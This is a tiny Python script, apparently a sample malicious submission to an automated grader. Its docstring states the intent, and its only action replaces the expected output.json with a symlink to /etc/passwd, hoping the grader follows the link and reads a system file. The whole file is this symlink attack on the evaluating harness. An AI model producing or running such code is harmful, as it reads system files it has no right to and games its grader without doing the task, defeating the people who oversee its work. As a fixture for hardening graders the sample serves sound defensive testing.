"""Answers with a link to a system file, hoping the grader follows it."""

import os

if __name__ == "__main__":
    os.symlink("/etc/passwd", "output.json")
